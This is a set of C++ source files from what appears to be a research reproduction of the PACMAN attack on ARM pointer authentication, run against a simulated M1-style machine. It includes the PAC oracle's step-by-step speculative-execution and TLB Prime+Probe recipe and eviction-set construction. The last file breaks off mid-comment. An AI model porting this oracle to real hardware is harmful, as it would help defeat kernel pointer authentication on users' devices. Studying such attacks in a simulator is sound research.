     * Derive latencyThreshold from measured hit/miss latency
     * distributions at setTarget() time instead of trusting the
     * constant, and re-derive it whenever disturbance recovery finds
     * the eviction sets unhealthy (e.g. after a core migration
     * shifted every latency).
     */
    bool autoCalibrate = false;

    /** Hit/miss samples per calibration measurement. */
    unsigned calibrationSamples = 24;

    /**
     * Bounded per-query retries when the probe-baseline sanity check
     * (a canary translation planted at prime time in an independent
     * dTLB set) reports the query was disturbed. 0 disables both the
     * check and the retry loop.
     */
    unsigned queryRetries = 0;

    /** Retries when a gadget syscall returns the transient
     *  SyscallBusy error before the query gives up on it. */
    unsigned busyRetries = 0;

    /**
     * Ablation: skip the TLB-reset step (the paper's step 2). The
     * gadget's guard condition then resolves quickly, the
     * speculation window closes before the authenticated pointer can
     * be transmitted, and the oracle goes blind — demonstrating why
     * the reset matters.
     */
    bool skipReset = false;
};

/** Robustness counters for one oracle's lifetime; mergeable. */
struct OracleStats
{
    uint64_t busyRetries = 0;      //!< gadget calls retried after -EAGAIN
    uint64_t disturbedQueries = 0; //!< queries the sanity check flagged
    uint64_t retriedQueries = 0;   //!< flagged queries actually retried
    uint64_t calibrations = 0;     //!< threshold (re)calibrations
    uint64_t repairs = 0;          //!< eviction-set rebuilds

    void
    merge(const OracleStats &other)
    {
        busyRetries += other.busyRetries;
        disturbedQueries += other.disturbedQueries;
        retriedQueries += other.retriedQueries;
        calibrations += other.calibrations;
        repairs += other.repairs;
    }
};

/** A configured PAC oracle bound to one target pointer. */
class PacOracle
{
  public:
    PacOracle(AttackerProcess &proc, const OracleConfig &cfg);

    /**
     * Bind the oracle to a target. @p target must be a mapped kernel
     * address (data for the data gadget, code for the instruction
     * gadget) whose dTLB set does not collide with runtime
     * infrastructure; isTargetUsable() checks this.
     */
    void setTarget(Addr target, uint64_t modifier);

    /** True if @p target's sets avoid infrastructure collisions. */
    bool isTargetUsable(Addr target) const;

    /**
     * Run one oracle query for @p guessed_pac.
     * @return the number of probe misses observed.
     */
    unsigned probeMisses(uint16_t guessed_pac);

    /** Classified query: does @p guessed_pac look correct? */
    bool testPac(uint16_t guessed_pac);

    /**
     * Median probe-miss count over @p samples queries. For odd
     * @p samples (the documented default usage) this is the middle
     * order statistic; for even @p samples it is the mean of the two
     * middle values rather than arbitrarily the upper one.
     */
    double sampledMisses(uint16_t guessed_pac, unsigned samples);

    /** Median-of-@p samples classification (paper Section 8.2). */
    bool testPacSampled(uint16_t guessed_pac, unsigned samples);

    const OracleConfig &config() const { return cfg_; }
    Addr target() const { return target_; }

    /** Total gadget-syscall invocations so far (speed accounting). */
    uint64_t queries() const { return queries_; }

    /** Robustness counters (retries, calibrations, repairs). */
    const OracleStats &stats() const { return stats_; }

    /** The attacker process this oracle drives. */
    AttackerProcess &process() { return proc_; }

    // --- Self-healing machinery (public for tests and benches;
    //     probeMisses() drives these automatically) ---

    /**
     * Measure hit/miss latency distributions on a quiet dTLB set and
     * set latencyThreshold to the midpoint of (hit p90, miss p10).
     * Called by setTarget() when autoCalibrate is set, and again by
     * disturbance recovery when the sets verify unhealthy.
     */
    void calibrate();

    /**
     * Prime-then-probe self-test of the prime list: true when every
     * probe reads back as a healthy hit under the current threshold
     * (and, when calibrated, within the measured hit band).
     */
    bool verifyEvictionSets();

    /** Rebuild every derived set (reset/prime/trampoline/canary)
     *  from the geometry — recovery for polluted/stale sets. */
    void repairEvictionSets();

    /**
     * Re-run the legitimate-pointer fetch syscall for the bound
     * target. Required after Machine::rekey(): the kernel re-signs
     * its pointers under the new keys, so the cached legit pointer
     * used for training would otherwise carry a stale PAC. The call
     * runs guest code and perturbs micro-architectural state — but
     * deterministically, so snapshot-restore and fresh-provision
     * replicas that both call it stay bit-identical.
     */
    void refreshLegitPointer();

    /**
     * Complete host-side mutable state, including the attacker
     * process's (the guest-visible side of both lives in the Machine
     * snapshot). The configured-then-calibrated threshold, measured
     * hit band, derived address lists, query/robustness counters, and
     * argument-array placement all rewind, so a restored replica
     * re-enters exactly the post-provisioning state.
     */
    struct Snapshot
    {
        OracleConfig cfg;
        Addr target = 0;
        uint64_t modifier = 0;
        uint64_t legitPtr = 0;
        std::vector<Addr> resetList;
        std::vector<Addr> primeList;
        std::vector<uint64_t> trampIndices;
        uint64_t queries = 0;
        Addr canaryAddr = 0;
        double calibHitLo = 0.0;
        double calibHitHi = 0.0;
        OracleStats stats;
        AttackerProcess::Snapshot proc;
    };

    Snapshot takeSnapshot() const;
    void restore(const Snapshot &snap);

  private:
    void train();
    uint16_t gadgetSyscall() const;
    void rebuildSets();
    uint64_t quietDtlbSet(uint64_t start) const;
    bool healthyHit(double count) const;
    unsigned probeOnce(uint16_t guessed_pac, bool *disturbed);
    void backoff(unsigned attempt);

    AttackerProcess &proc_;
    OracleConfig cfg_;
    EvictionSets evsets_;

    Addr target_ = 0;
    uint64_t modifier_ = 0;
    uint64_t legitPtr_ = 0;
    std::vector<Addr> resetList_;
    std::vector<Addr> primeList_;
    std::vector<uint64_t> trampIndices_;
    uint64_t queries_ = 0;

    /** Sanity-check canary: an arena page in a quiet dTLB set,
     *  loaded at prime time and timed after the probe. */
    Addr canaryAddr_ = 0;

    /** Measured hit band from the last calibration (0 = never
     *  calibrated; the fixed threshold is the only reference). */
    double calibHitLo_ = 0.0;
    double calibHitHi_ = 0.0;

    OracleStats stats_;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_ORACLE_HH
