/**
 * @file
 * The PAC oracle (paper Section 8.1): distinguish a correct PAC from
 * an incorrect one for an attacker-chosen (pointer, modifier) pair —
 * without ever architecturally using the pointer, hence without any
 * crash risk.
 *
 * One oracle query runs the paper's recipe:
 *
 *  1. train the gadget's guard branch (and, for the instruction
 *     gadget, the BTB) with a legitimately signed pointer;
 *  2. arm: cond <- 0 so the architectural path skips the gadget body;
 *  3. reset: evict the guard-condition page's translation (23 loads
 *     in its L2 TLB set), opening a long speculation window;
 *  4. prime the target page's dTLB set (12 loads);
 *  5. fire the gadget syscall with the guessed signed pointer; the
 *     gadget speculatively authenticates and dereferences it;
 *  6. (instruction gadget only) evict the kernel iTLB set with 4
 *     trampoline fetches so a filled translation spills into the
 *     shared dTLB;
 *  7. probe the dTLB set and count misses: a correct PAC leaves a
 *     kernel translation in the primed set, an incorrect PAC leaves
 *     nothing.
 */

#ifndef PACMAN_ATTACK_ORACLE_HH
#define PACMAN_ATTACK_ORACLE_HH

#include <cstdint>
#include <optional>

#include "attack/eviction.hh"
#include "attack/runtime.hh"

namespace pacman::attack
{

/** Which PACMAN gadget the oracle drives. */
enum class GadgetKind
{
    Data,        //!< aut + load   (Figure 3(a))
    Instruction, //!< aut + blr    (Figure 3(b))
    Combined,    //!< blraa: verification + transmission in one
                 //!< ARMv8.3 instruction (extension)
};

/**
 * Which micro-architectural structure carries the transmission
 * (Section 4.1: the attack works over many side channels; the paper's
 * PoCs use the TLB, and the cache variant is provided to demonstrate
 * the generality claim).
 */
enum class Channel
{
    DtlbSet, //!< the paper's shared-L1-dTLB Prime+Probe
    L1dSet,  //!< L1 data-cache set Prime+Probe (data gadget only)
};

/** Oracle tuning parameters. */
struct OracleConfig
{
    GadgetKind kind = GadgetKind::Data;

    /** Transmission channel; L1dSet requires the data gadget. */
    Channel channel = Channel::DtlbSet;

    /** Branch-training iterations before each query (paper: 64). */
    unsigned trainIters = 8;

    /** Multi-thread-counter threshold separating dTLB hit from miss
     *  (paper Section 7.4: 30). */
    uint64_t latencyThreshold = 30;

    /** Probe misses at or above this count a correct PAC
     *  (paper Figure 8: correct >= 5, incorrect <= 1). */
    unsigned missThreshold = 3;

    /**
     * Ablation: skip the TLB-reset step (the paper's step 2). The
     * gadget's guard condition then resolves quickly, the
     * speculation window closes before the authenticated pointer can
     * be transmitted, and the oracle goes blind — demonstrating why
     * the reset matters.
     */
    bool skipReset = false;
};

/** A configured PAC oracle bound to one target pointer. */
class PacOracle
{
  public:
    PacOracle(AttackerProcess &proc, const OracleConfig &cfg);

    /**
     * Bind the oracle to a target. @p target must be a mapped kernel
     * address (data for the data gadget, code for the instruction
     * gadget) whose dTLB set does not collide with runtime
     * infrastructure; isTargetUsable() checks this.
     */
    void setTarget(Addr target, uint64_t modifier);

    /** True if @p target's sets avoid infrastructure collisions. */
    bool isTargetUsable(Addr target) const;

    /**
     * Run one oracle query for @p guessed_pac.
     * @return the number of probe misses observed.
     */
    unsigned probeMisses(uint16_t guessed_pac);

    /** Classified query: does @p guessed_pac look correct? */
    bool testPac(uint16_t guessed_pac);

    /**
     * Median probe-miss count over @p samples queries. For odd
     * @p samples (the documented default usage) this is the middle
     * order statistic; for even @p samples it is the mean of the two
     * middle values rather than arbitrarily the upper one.
     */
    double sampledMisses(uint16_t guessed_pac, unsigned samples);

    /** Median-of-@p samples classification (paper Section 8.2). */
    bool testPacSampled(uint16_t guessed_pac, unsigned samples);

    const OracleConfig &config() const { return cfg_; }
    Addr target() const { return target_; }

    /** Total gadget-syscall invocations so far (speed accounting). */
    uint64_t queries() const { return queries_; }

    /** The attacker process this oracle drives. */
    AttackerProcess &process() { return proc_; }

  private:
    void train();
    uint16_t gadgetSyscall() const;

    AttackerProcess &proc_;
    OracleConfig cfg_;
    EvictionSets evsets_;

    Addr target_ = 0;
    uint64_t modifier_ = 0;
    uint64_t legitPtr_ = 0;
    std::vector<Addr> resetList_;
    std::vector<Addr> primeList_;
    std::vector<uint64_t> trampIndices_;
    uint64_t queries_ = 0;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_ORACLE_HH
