#include "eviction.hh"

#include "base/logging.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using isa::PageShift;
using isa::PageSize;
using isa::pageNumber;
using isa::vaPart;

EvictionSets::EvictionSets(kernel::Machine &machine)
{
    const auto &cfg = machine.mem().config();
    dtlbSets_ = cfg.dtlb.sets;
    l2tlbSets_ = cfg.l2tlb.sets;
    itlbSets_ = cfg.itlb.sets;
    l1dSets_ = cfg.l1d.sets;
    dtlbWays_ = cfg.dtlb.ways;
    l2tlbWays_ = cfg.l2tlb.ways;
    itlbWays_ = cfg.itlb.ways;
    l1dWays_ = cfg.l1d.ways;
    l1dLine_ = cfg.l1d.lineBytes;
}

uint64_t
EvictionSets::dtlbSetOf(Addr va) const
{
    return pageNumber(vaPart(va)) & (dtlbSets_ - 1);
}

uint64_t
EvictionSets::l2tlbSetOf(Addr va) const
{
    return pageNumber(vaPart(va)) & (l2tlbSets_ - 1);
}

uint64_t
EvictionSets::itlbSetOf(Addr va) const
{
    return pageNumber(vaPart(va)) & (itlbSets_ - 1);
}

std::vector<Addr>
EvictionSets::dtlbSet(uint64_t set, unsigned n) const
{
    PACMAN_ASSERT(set < dtlbSets_, "dTLB set %llu out of range",
                  (unsigned long long)set);
    std::vector<Addr> out;
    out.reserve(n);
    // The arena base is 256-page aligned, so page (set + i * 256) of
    // the arena has VPN = set (mod 256).
    for (unsigned i = 0; i < n; ++i) {
        out.push_back(kernel::EvictionArena +
                      (set + uint64_t(i) * dtlbSets_) * PageSize +
                      uint64_t(i) * 128);
    }
    return out;
}

std::vector<Addr>
EvictionSets::l2tlbSet(uint64_t set, unsigned n) const
{
    PACMAN_ASSERT(set < l2tlbSets_, "L2 TLB set %llu out of range",
                  (unsigned long long)set);
    std::vector<Addr> out;
    out.reserve(n);
    // Offset the arena by half to keep reset pages disjoint from
    // dtlbSet() pages with small i.
    constexpr Addr reset_base =
        kernel::EvictionArena + (1ull << 33); // +8 GB, still user VA
    for (unsigned i = 0; i < n; ++i) {
        out.push_back(reset_base +
                      (set + uint64_t(i) * l2tlbSets_) * PageSize +
                      uint64_t(i) * 128);
    }
    return out;
}

std::vector<uint64_t>
EvictionSets::trampolineIndicesFor(uint64_t set, unsigned n) const
{
    // Trampoline page i has VPN = trampoline_base_vpn + i; the base
    // is 256-page aligned so page i aliases iTLB set i (mod 32).
    const uint64_t base_vpn = pageNumber(vaPart(kernel::TrampolineBase));
    PACMAN_ASSERT((base_vpn & (itlbSets_ - 1)) == 0,
                  "trampoline base not iTLB-set aligned");
    std::vector<uint64_t> out;
    out.reserve(n);
    for (unsigned i = 0; i < n; ++i) {
        const uint64_t idx = (set & (itlbSets_ - 1)) + uint64_t(i) * itlbSets_;
        PACMAN_ASSERT(idx < kernel::TrampolineCount,
                      "trampoline index %llu out of range",
                      (unsigned long long)idx);
        out.push_back(idx);
    }
    return out;
}

uint64_t
EvictionSets::l1dSetOf(Addr va) const
{
    return (vaPart(va) / l1dLine_) & (l1dSets_ - 1);
}

std::vector<Addr>
EvictionSets::l1dSet(uint64_t set, unsigned n) const
{
    PACMAN_ASSERT(set < l1dSets_, "L1D set %llu out of range",
                  (unsigned long long)set);
    // A dedicated arena window, way-span stride: every address lands
    // in L1D set @p set but a different page (so the prime also
    // keeps n separate dTLB entries alive across n dTLB sets).
    constexpr Addr cache_arena =
        kernel::EvictionArena + (1ull << 34); // +16 GB
    const uint64_t way_span = l1dSets_ * l1dLine_;
    std::vector<Addr> out;
    out.reserve(n);
    for (unsigned i = 0; i < n; ++i)
        out.push_back(cache_arena + uint64_t(i) * way_span +
                      set * l1dLine_);
    return out;
}

std::vector<Addr>
EvictionSets::sweepSet(Addr base, uint64_t stride, unsigned n,
                       bool cache_safe) const
{
    std::vector<Addr> out;
    out.reserve(n);
    for (unsigned i = 1; i <= n; ++i) {
        Addr va = base + uint64_t(i) * stride;
        if (cache_safe)
            va += uint64_t(i) * 128;
        out.push_back(va);
    }
    return out;
}

} // namespace pacman::attack
