/**
 * @file
 * The simulated machine: one core, its memory hierarchy, the timer
 * devices, and a booted kernel. This is the top-level object that
 * examples, tests, benches, and the attack library instantiate.
 */

#ifndef PACMAN_KERNEL_MACHINE_HH
#define PACMAN_KERNEL_MACHINE_HH

#include <functional>
#include <memory>
#include <vector>

#include "base/random.hh"
#include "cpu/core.hh"
#include "cpu/timer.hh"
#include "kernel/kernel.hh"
#include "mem/hierarchy.hh"

namespace pacman::kernel
{

/** Machine-level configuration. */
struct MachineConfig
{
    cpu::CoreConfig core;
    mem::HierarchyConfig hier;
    uint64_t seed = 42;

    /**
     * Thread-timer throughput (counts per 1000 cycles) and jitter.
     * Calibrated so a dTLB-hit measurement never exceeds ~28 counts
     * and a dTLB miss never drops below ~32 — reproducing Figure 7(b)
     * and the paper's threshold of 30.
     */
    uint64_t timerRatePer1k = 400;
    uint64_t timerJitter = 1;

    /**
     * Background-noise model: probability that ambient activity
     * (other processes, interrupts) perturbs TLB state between guest
     * invocations, and how many random pages each perturbation
     * touches. Models the paper's "browsing + video call" load.
     */
    double noiseProbability = 0.0;
    unsigned noisePages = 4;
};

/** Default M1-p-core machine configuration. */
MachineConfig defaultMachineConfig();

/** A booted simulated machine. */
class Machine
{
  public:
    explicit Machine(const MachineConfig &cfg = defaultMachineConfig());

    cpu::Core &core() { return core_; }
    mem::MemoryHierarchy &mem() { return mem_; }
    Kernel &kernel() { return kernel_; }
    Random &rng() { return rng_; }
    cpu::ThreadTimerDevice &timer() { return timer_; }
    const MachineConfig &config() const { return cfg_; }

    // Const views for read-only consumers (e.g. the integrity
    // fingerprint, which digests live state instead of paying a full
    // deep snapshot).
    const cpu::Core &core() const { return core_; }
    const mem::MemoryHierarchy &mem() const { return mem_; }
    const cpu::ThreadTimerDevice &timer() const { return timer_; }
    const Random &rng() const { return rng_; }
    const Random &noiseRng() const { return noiseRng_; }

    /**
     * Switch the machine's RNG to a fresh stream mid-run. Everything
     * drawn at boot (notably the per-boot PAC keys) is unaffected;
     * subsequent jitter/noise/replacement draws follow the new
     * stream. Campaign replicas boot from the shared campaign seed
     * (identical keys on every replica) and then switch to a
     * per-work-item stream so concurrent machines are decorrelated
     * yet bit-reproducible regardless of which worker runs the item.
     */
    void reseedRng(uint64_t seed)
    {
        rng_ = Random(seed);
        noiseRng_ = rng_.fork(NoiseStream);
    }

    /**
     * Run guest code at @p pc in EL0 until HLT; returns x0.
     * Calls fatal() if the guest crashes — callers that expect
     * crashes use runGuest() instead.
     */
    uint64_t call(isa::Addr pc, std::initializer_list<uint64_t> args = {});

    /** Run guest code at @p pc in EL0; returns the raw exit status. */
    cpu::ExitStatus runGuest(isa::Addr pc,
                             std::initializer_list<uint64_t> args = {});

    /**
     * Inject ambient micro-architectural noise per the configured
     * noise model (called between attack steps by the harnesses).
     *
     * Every call is also a *fault opportunity*: the disturbance hook
     * (if any) fires first, even when the ambient noise model is
     * disabled — the sim-layer FaultInjector attaches here without
     * the kernel layer depending on it.
     */
    void injectNoise();

    /**
     * Register @p hook to run at the top of every injectNoise() call
     * (pass nullptr to detach). One consumer at a time — the fault
     * injector owns this slot while attached.
     */
    void setDisturbanceHook(std::function<void()> hook)
    {
        disturbHook_ = std::move(hook);
    }

    /**
     * Reschedule the machine onto the other core type (the fault
     * injector's migration event). Swaps the latency constants and
     * the timer thread's relative throughput; cache/TLB geometry is
     * intentionally kept (DESIGN.md §4d), so eviction sets stay
     * valid while every measured latency shifts.
     */
    void migrateCore(bool to_ecore);

    /** True while migrated onto the e-core. */
    bool onECore() const { return onECore_; }

    /**
     * Render a human-readable table of core and hierarchy statistics
     * (instructions, branches, mispredicts, wrong-path activity,
     * per-structure hit rates).
     */
    std::string statsReport();

    // --- Snapshot / restore (checkpointed replica provisioning) ---

    /**
     * The complete simulated state: both RNG stream positions, the
     * e-core migration flag, the full memory hierarchy (physical
     * pages, page table, caches, TLBs), the core (architectural +
     * timing + predictor state and PAC-key sysregs), and the thread
     * timer. Host wiring — the disturbance hook, device registration,
     * trace hooks — is deliberately not captured: a snapshot must be
     * restored into the machine it was taken from.
     */
    struct Snapshot
    {
        Random::State rng;
        Random::State noiseRng;
        bool onECore = false;
        mem::MemoryHierarchy::Snapshot mem;
        cpu::Core::Snapshot core;
        cpu::ThreadTimerDevice::Snapshot timer;
    };

    /** Capture the complete simulated state. */
    Snapshot takeSnapshot() const;

    /** Convenience alias matching the subsystem's public name. */
    Snapshot snapshot() const { return takeSnapshot(); }

    /**
     * Rewind bit-identically to @p snap: any guest or host-driven
     * simulation from the restored state replays exactly the run that
     * followed the capture (given the same inputs). Physical pages
     * are rewound copy-on-write — only pages written since the
     * capture are copied back. @return the page copy/free work done.
     */
    mem::PhysMem::RestoreStats restore(const Snapshot &snap);

    /**
     * Rotate PAC keys as if freshly booted (Kernel::rekey): dedicated
     * key stream, machine RNG untouched. Pair with reseedRng() to give
     * a restored replica per-trial fresh-boot semantics.
     */
    void
    rekey(uint64_t key_seed)
    {
        kernel_.rekey(key_seed);
        ++rekeys_;
    }

    /**
     * Key rotations performed on this machine since construction.
     * Host-side bookkeeping for service metrics (pacman-oracled's
     * per-tenant isolation counters) — deliberately NOT part of the
     * snapshot: a restore rewinds the simulated state, not the
     * operational history.
     */
    uint64_t rekeys() const { return rekeys_; }

  private:
    /** Stream id for the dedicated ambient-noise RNG: noise draws
     *  must not interleave with timer-jitter draws, or enabling
     *  noise would perturb every measurement sequence. */
    static constexpr uint64_t NoiseStream = 0x4E6F'6973ull; // "Nois"

    MachineConfig cfg_;
    Random rng_;
    Random noiseRng_;
    mem::MemoryHierarchy mem_;
    cpu::Core core_;
    cpu::ThreadTimerDevice timer_;
    Kernel kernel_;
    std::function<void()> disturbHook_;
    bool onECore_ = false;
    uint64_t rekeys_ = 0;

    /** injectNoise() draw-without-replacement scratch (no per-call
     *  allocation on the attack hot path). */
    std::vector<uint64_t> noiseTrampScratch_;
    std::vector<uint64_t> noiseArenaScratch_;
};

} // namespace pacman::kernel

#endif // PACMAN_KERNEL_MACHINE_HH
