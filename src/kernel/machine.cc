#include "machine.hh"

#include "base/logging.hh"
#include "base/stats.hh"
#include "kernel/layout.hh"

namespace pacman::kernel
{

MachineConfig
defaultMachineConfig()
{
    MachineConfig cfg;
    cfg.hier = mem::m1PCoreConfig();
    return cfg;
}

Machine::Machine(const MachineConfig &cfg)
    : cfg_(cfg), rng_(cfg.seed), mem_(cfg.hier, &rng_),
      core_(cfg.core, &mem_, &rng_),
      timer_(core_.cyclePtr(), cfg.timerRatePer1k, cfg.timerJitter,
             &rng_),
      kernel_(&core_, &mem_, &rng_)
{
    // The shared-counter page is mapped into userspace once, at a
    // fixed address every process knows.
    mem_.mapDevice(TimerPage, &timer_);

    // Noise arena: 512 user pages spanning every dTLB set twice, used
    // by the ambient-activity model.
    mem_.mapRange(NoiseArena, 512 * isa::PageSize,
                  mem::PageFlags{.user = true, .writable = true,
                                 .executable = false, .device = false});

    kernel_.boot();
}

cpu::ExitStatus
Machine::runGuest(isa::Addr pc, std::initializer_list<uint64_t> args)
{
    core_.setEl(0);
    core_.setPc(pc);
    unsigned idx = 0;
    for (uint64_t arg : args)
        core_.setReg(idx++, arg);
    return core_.run();
}

uint64_t
Machine::call(isa::Addr pc, std::initializer_list<uint64_t> args)
{
    const cpu::ExitStatus status = runGuest(pc, args);
    if (status.kind != cpu::ExitKind::Halted) {
        fatal("guest run at 0x%llx did not halt cleanly: %s",
              (unsigned long long)pc, status.reason.c_str());
    }
    return core_.reg(0);
}

std::string
Machine::statsReport()
{
    const cpu::CoreStats &cs = core_.stats();
    TextTable table;
    table.header({"Statistic", "Value"});
    auto row = [&](const char *name, uint64_t value) {
        table.row({name, strprintf("%llu", (unsigned long long)value)});
    };
    row("cycles", core_.cycle());
    row("instructions retired", cs.instsRetired);
    row("syscalls", cs.syscalls);
    row("branches", cs.branches);
    row("branch mispredicts", cs.branchMispredicts);
    row("wrong-path instructions", cs.wrongPathInsts);
    row("wrong-path memory ops", cs.wrongPathMemOps);
    row("speculative faults suppressed", cs.specFaultsSuppressed);

    auto structure = [&](const char *name, uint64_t hits,
                         uint64_t misses) {
        const uint64_t total = hits + misses;
        table.row({name,
                   strprintf("%llu hits / %llu misses (%.1f%% hit)",
                             (unsigned long long)hits,
                             (unsigned long long)misses,
                             total ? 100.0 * double(hits) /
                                         double(total)
                                   : 0.0)});
    };
    structure("L1I", mem_.l1i().hits(), mem_.l1i().misses());
    structure("L1D", mem_.l1d().hits(), mem_.l1d().misses());
    structure("L2", mem_.l2().hits(), mem_.l2().misses());
    structure("iTLB (EL0)", mem_.itlb(0).hits(), mem_.itlb(0).misses());
    structure("iTLB (EL1)", mem_.itlb(1).hits(), mem_.itlb(1).misses());
    structure("dTLB", mem_.dtlb().hits(), mem_.dtlb().misses());
    structure("L2 TLB", mem_.l2tlb().hits(), mem_.l2tlb().misses());
    return table.render();
}

void
Machine::injectNoise()
{
    if (cfg_.noiseProbability <= 0.0 ||
        !rng_.chance(cfg_.noiseProbability)) {
        return;
    }
    // Ambient system activity: demand accesses to random pages,
    // disturbing TLB and cache state the way background processes
    // do. User-side noise touches the noise arena (every dTLB set);
    // kernel-side noise touches the trampoline region (every set,
    // as data and occasionally as instruction fetches).
    for (unsigned i = 0; i < cfg_.noisePages; ++i) {
        const bool kernel_side = rng_.chance(0.4);
        if (kernel_side) {
            const Addr va = TrampolineBase +
                            rng_.next(TrampolineCount) * isa::PageSize;
            const auto kind = rng_.chance(0.3) ? mem::AccessKind::Fetch
                                               : mem::AccessKind::Load;
            mem_.access(kind, va, 1, false);
        } else {
            const Addr va = NoiseArena + rng_.next(512) * isa::PageSize +
                            rng_.next(256) * 64;
            mem_.access(mem::AccessKind::Load, va, 0, false);
        }
    }
}

} // namespace pacman::kernel
