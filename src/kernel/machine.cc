#include "machine.hh"

#include <algorithm>
#include <vector>

#include "base/logging.hh"
#include "base/stats.hh"
#include "kernel/layout.hh"

namespace pacman::kernel
{

MachineConfig
defaultMachineConfig()
{
    MachineConfig cfg;
    cfg.hier = mem::m1PCoreConfig();
    return cfg;
}

Machine::Machine(const MachineConfig &cfg)
    : cfg_(cfg), rng_(cfg.seed), noiseRng_(rng_.fork(NoiseStream)),
      mem_(cfg.hier, &rng_), core_(cfg.core, &mem_, &rng_),
      timer_(core_.cyclePtr(), cfg.timerRatePer1k, cfg.timerJitter,
             &rng_),
      kernel_(&core_, &mem_, &rng_)
{
    // The shared-counter page is mapped into userspace once, at a
    // fixed address every process knows.
    mem_.mapDevice(TimerPage, &timer_);

    // Noise arena: 512 user pages spanning every dTLB set twice, used
    // by the ambient-activity model.
    mem_.mapRange(NoiseArena, 512 * isa::PageSize,
                  mem::PageFlags{.user = true, .writable = true,
                                 .executable = false, .device = false});

    kernel_.boot();
}

cpu::ExitStatus
Machine::runGuest(isa::Addr pc, std::initializer_list<uint64_t> args)
{
    core_.setEl(0);
    core_.setPc(pc);
    unsigned idx = 0;
    for (uint64_t arg : args)
        core_.setReg(idx++, arg);
    return core_.run();
}

uint64_t
Machine::call(isa::Addr pc, std::initializer_list<uint64_t> args)
{
    const cpu::ExitStatus status = runGuest(pc, args);
    if (status.kind != cpu::ExitKind::Halted) {
        fatal("guest run at 0x%llx did not halt cleanly: %s",
              (unsigned long long)pc, status.reason.c_str());
    }
    return core_.reg(0);
}

std::string
Machine::statsReport()
{
    const cpu::CoreStats &cs = core_.stats();
    TextTable table;
    table.header({"Statistic", "Value"});
    auto row = [&](const char *name, uint64_t value) {
        table.row({name, strprintf("%llu", (unsigned long long)value)});
    };
    row("cycles", core_.cycle());
    row("instructions retired", cs.instsRetired);
    row("syscalls", cs.syscalls);
    row("branches", cs.branches);
    row("branch mispredicts", cs.branchMispredicts);
    row("wrong-path instructions", cs.wrongPathInsts);
    row("wrong-path memory ops", cs.wrongPathMemOps);
    row("speculative faults suppressed", cs.specFaultsSuppressed);
    // Host-side perf counters (not architectural state): how well the
    // decoded-instruction cache is absorbing front-end decode work.
    row("decode-cache hits", cs.icacheDecodeHits);
    row("decode-cache misses", cs.icacheDecodeMisses);
    // Superblock engine telemetry (monotonic — unlike CoreStats these
    // never rewind on snapshot restore; see cpu/superblock.hh).
    const cpu::SuperblockStats &sbs = core_.superblockStats();
    row("superblocks built", sbs.blocksBuilt);
    row("superblock hits", sbs.blockHits);
    row("superblock instructions", sbs.blockInsts);
    row("superblock invalidations", sbs.invalidations);
    row("superblock fallback exits", sbs.fallbackExits);
    // Timing-trace telemetry (DESIGN.md §4k): how often block
    // re-dispatches replay the memoized hierarchy walk, and why the
    // guard rejected a recorded trace when it did not.
    row("timing traces recorded", sbs.tracesRecorded);
    row("timing-trace record failures", sbs.traceRecordFailures);
    row("timing-trace replays", sbs.traceReplays);
    row("timing-trace ops replayed", sbs.traceOpsReplayed);
    row("timing-trace guard breaks", sbs.traceGuardBreaks);
    row("timing-trace breaks: eviction", sbs.traceBreakEviction);
    row("timing-trace breaks: noise", sbs.traceBreakNoise);
    row("timing-trace breaks: flush", sbs.traceBreakFlush);
    row("timing-trace breaks: el", sbs.traceBreakEl);
    row("timing-trace soft misses", sbs.traceSoftMisses);

    auto structure = [&](const char *name, uint64_t hits,
                         uint64_t misses) {
        const uint64_t total = hits + misses;
        table.row({name,
                   strprintf("%llu hits / %llu misses (%.1f%% hit)",
                             (unsigned long long)hits,
                             (unsigned long long)misses,
                             total ? 100.0 * double(hits) /
                                         double(total)
                                   : 0.0)});
    };
    structure("L1I", mem_.l1i().hits(), mem_.l1i().misses());
    structure("L1D", mem_.l1d().hits(), mem_.l1d().misses());
    structure("L2", mem_.l2().hits(), mem_.l2().misses());
    structure("iTLB (EL0)", mem_.itlb(0).hits(), mem_.itlb(0).misses());
    structure("iTLB (EL1)", mem_.itlb(1).hits(), mem_.itlb(1).misses());
    structure("dTLB", mem_.dtlb().hits(), mem_.dtlb().misses());
    structure("L2 TLB", mem_.l2tlb().hits(), mem_.l2tlb().misses());
    return table.render();
}

Machine::Snapshot
Machine::takeSnapshot() const
{
    Snapshot snap;
    snap.rng = rng_.state();
    snap.noiseRng = noiseRng_.state();
    snap.onECore = onECore_;
    snap.mem = mem_.takeSnapshot();
    snap.core = core_.takeSnapshot();
    snap.timer = timer_.takeSnapshot();
    return snap;
}

mem::PhysMem::RestoreStats
Machine::restore(const Snapshot &snap)
{
    rng_.setState(snap.rng);
    noiseRng_.setState(snap.noiseRng);
    const mem::PhysMem::RestoreStats stats = mem_.restore(snap.mem);
    core_.restore(snap.core);
    // The hierarchy snapshot does not carry the latency constants (they
    // are a pure function of the migration flag); re-derive them here
    // exactly as migrateCore() would.
    onECore_ = snap.onECore;
    mem_.setLatencyConfig(onECore_ ? mem::m1ECoreLatency()
                                   : cfg_.hier.lat);
    // Restore the timer after the latency swap: its snapshot already
    // holds the matching base rate, so no setBaseRatePer1k rebase
    // (which would resample base cycle/value) must run.
    timer_.restore(snap.timer);
    return stats;
}

void
Machine::migrateCore(bool to_ecore)
{
    if (to_ecore == onECore_)
        return;
    onECore_ = to_ecore;
    mem_.setLatencyConfig(to_ecore ? mem::m1ECoreLatency()
                                   : cfg_.hier.lat);
    // The counting thread's loop speed is fixed in wall time while
    // the victim's cycles stretch on the slower e-core, so each
    // victim cycle observes ~5/4 the counts.
    timer_.setBaseRatePer1k(to_ecore ? cfg_.timerRatePer1k * 5 / 4
                                     : cfg_.timerRatePer1k);
}

void
Machine::injectNoise()
{
    // Fault opportunity first: the chaos layer (if attached) fires
    // regardless of whether the ambient noise model is enabled.
    if (disturbHook_)
        disturbHook_();

    if (cfg_.noiseProbability <= 0.0 ||
        !noiseRng_.chance(cfg_.noiseProbability)) {
        return;
    }
    // Attribute any timing-trace guard break the accesses below cause
    // to the noise model (telemetry only; the per-set generation
    // labels remain the validity ground truth).
    mem_.noteNoiseDisturbance();
    // Ambient system activity: one demand access per configured noise
    // page, pages drawn *without replacement* so each perturbation
    // touches exactly `noisePages` distinct pages (the old model drew
    // with replacement, so the touched-set count ignored the config).
    // All draws come from the dedicated noise stream: they never
    // interleave with timer-jitter draws, keeping measurement
    // sequences comparable with and without noise. Kernel-side noise
    // touches the trampoline region both as data and as instruction
